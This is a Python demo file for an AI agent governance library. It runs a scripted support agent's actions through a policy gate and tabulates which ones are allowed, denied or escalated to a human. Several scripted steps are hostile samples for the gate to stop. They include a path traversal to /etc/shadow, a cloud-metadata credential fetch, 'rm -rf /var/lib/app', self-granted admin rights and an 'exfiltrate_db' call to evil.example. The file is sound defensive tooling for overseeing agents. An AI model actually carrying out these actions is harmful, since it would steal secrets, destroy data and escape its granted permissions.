"""The offline demo: a scripted support agent tries a dozen actions; every one is decided by the
shipped policies on the embedded engine, and the table shows what happened and why.

With ``ANTHROPIC_API_KEY`` or ``OPENAI_API_KEY`` set, the demo says so and still runs the same
scripted plan: the point is the gate, not the model, and the run must stay reproducible.
"""

from __future__ import annotations

import os
import tempfile
from dataclasses import dataclass
from typing import Any

from kitelogik.decision import Decision
from kitelogik.events import (
    AgentSpawn,
    DataAccess,
    Delegation,
    GovernanceEvent,
    PlanProposal,
    PlanStep,
    ResourceUse,
    SessionContext,
    ToolCall,
)
from kitelogik.gate import PolicyGate

__all__ = ["DEMO_SCRIPT", "DemoStep", "run_demo", "run_steps"]


@dataclass(frozen=True)
class DemoStep:
    says: str  # what the scripted agent "thinks"
    event: GovernanceEvent


def _script() -> list[DemoStep]:
    ctx = SessionContext(
        session_id="demo-session",
        agent_id="support-agent",
        user_role="support",
        session_scopes=["fs:read", "net:http", "email:send", "payments:refund", "db:read"],
    )
    return [
        DemoStep(
            "Look up the refund policy online",
            ToolCall(action="web_search", args={"query": "refund policy"}, context=ctx),
        ),
        DemoStep(
            "Read the customer's ticket",
            ToolCall(action="read_file", args={"path": "/srv/tickets/4711.txt"}, context=ctx),
        ),
        DemoStep(
            "Read a file via a traversal trick",
            ToolCall(
                action="read_file", args={"path": "/srv/tickets/../../etc/shadow"}, context=ctx
            ),
        ),
        DemoStep(
            "Fetch cloud metadata credentials",
            ToolCall(
                action="http_get",
                args={"url": "http://169.254.169.254/latest/meta-data/"},
                context=ctx,
            ),
        ),
        DemoStep(
            "Query the orders table",
            ToolCall(
                action="sql_query", args={"query": "SELECT * FROM orders WHERE id = 7"}, context=ctx
            ),
        ),
        DemoStep(
            "Refund 50 EUR to the customer",
            ToolCall(
                action="approve_refund", args={"customer_id": "c-4711", "amount": 50}, context=ctx
            ),
        ),
        DemoStep(
            "Email the customer",
            ToolCall(
                action="send_email",
                args={"to": "customer@example.com", "subject": "Your refund"},
                context=ctx,
            ),
        ),
        DemoStep(
            "Run a shell command",
            ToolCall(action="run_shell", args={"command": "rm -rf /var/lib/app"}, context=ctx),
        ),
        DemoStep(
            "Grant myself admin rights",
            ToolCall(
                action="grant_permission",
                args={"user": "support-agent", "role": "admin"},
                context=ctx,
            ),
        ),
        DemoStep(
            "Call a tool nobody registered",
            ToolCall(action="exfiltrate_db", args={"target": "https://evil.example"}, context=ctx),
        ),
        DemoStep(
            "Send confidential data to an external tool",
            ToolCall(
                action="http_get",
                args={"url": "https://api.partner.example/upload"},
                data_labels=["confidential"],
                context=ctx,
            ),
        ),
        DemoStep(
            "Spawn a researcher sub-agent with fewer rights",
            AgentSpawn(
                action="researcher",
                requested_capabilities=["fs:read"],
                parent_capabilities=list(ctx.session_scopes),
                context=ctx,
            ),
        ),
        DemoStep(
            "Delegate with more scopes than I hold",
            Delegation(action="billing-agent", child_scopes=["payments:transfer"], context=ctx),
        ),
        DemoStep(
            "Propose a plan: read, then delete",
            PlanProposal(
                action="cleanup",
                steps=[
                    PlanStep("read_file", {"path": "/srv/tickets/1.txt"}),
                    PlanStep("delete_file", {"path": "/srv/tickets/1.txt"}),
                ],
                context=ctx,
            ),
        ),
        DemoStep(
            "Spend 500 tokens with 100 left",
            ResourceUse(action="llm_tokens", requested={"tokens": 500}, context=ctx),
        ),
        DemoStep(
            "Read the public price list",
            DataAccess(action="price_list", classification="public", context=ctx),
        ),
    ]


DEMO_SCRIPT = _script


def run_steps(gate: PolicyGate, steps: list[DemoStep]) -> list[Decision]:
    return [gate.check(step.event) for step in steps]


_STYLE = {"allow": "bold green", "deny": "bold red", "escalate": "bold yellow"}


def _render(steps: list[DemoStep], decisions: list[Decision]) -> None:
    from rich.console import Console
    from rich.table import Table

    table = Table(
        title="Kite Logik demo: every action decided by policy before it runs", show_lines=True
    )
    table.add_column("#", justify="right")
    table.add_column("agent wants to")
    table.add_column("event")
    table.add_column("verdict")
    table.add_column("reasons")
    table.add_column("rules", style="dim")
    for i, (step, d) in enumerate(zip(steps, decisions, strict=True), 1):
        table.add_row(
            str(i),
            step.says,
            f"{d.event_type}: {d.action}",
            f"[{_STYLE[d.verdict]}]{d.verdict.upper()}[/]",
            "\n".join(d.reasons) or "-",
            "\n".join(d.rules),
        )
    console = Console(width=max(Console().width, 140))
    console.print(table)
    counts = {v: sum(d.verdict == v for d in decisions) for v in ("allow", "deny", "escalate")}
    lat = sorted(d.latency for d in decisions)
    console.print(
        f"{counts['allow']} allowed, {counts['deny']} denied, {counts['escalate']} escalated "
        f"to a human; median decision time {lat[len(lat) // 2] * 1e6:.0f} us "
        f"(engine: {decisions[0].engine})."
    )


def run_demo(policy_dir: str | None = None) -> int:
    if os.environ.get("ANTHROPIC_API_KEY") or os.environ.get("OPENAI_API_KEY"):
        print(
            "An API key is set; the demo still uses its scripted agent so that the run is "
            "reproducible. See examples/ for agents driven by a real model."
        )
    steps = _script()
    with tempfile.TemporaryDirectory() as home:
        # The demo's audit log goes to a throwaway directory, not into the caller's project.
        from kitelogik.budgets import SQLiteBudgetLedger

        # The session may spend 100 model tokens: step 15 asks for 500.
        ledger = SQLiteBudgetLedger(
            os.path.join(home, "budgets.db"),
            session_limits={"tokens": 100, "api_calls": 1000},
        )
        gate = PolicyGate(policy_dir=policy_dir, audit=_demo_audit(home), budget=ledger)
        decisions = run_steps(gate, steps)
        ledger.close()
        _render(steps, decisions)
    return 0


def _demo_audit(home: str) -> Any:
    try:
        from kitelogik.audit import open_audit_sink  # type: ignore[attr-defined]
    except ImportError:
        return None
    return open_audit_sink(os.path.join(home, "audit.db"))
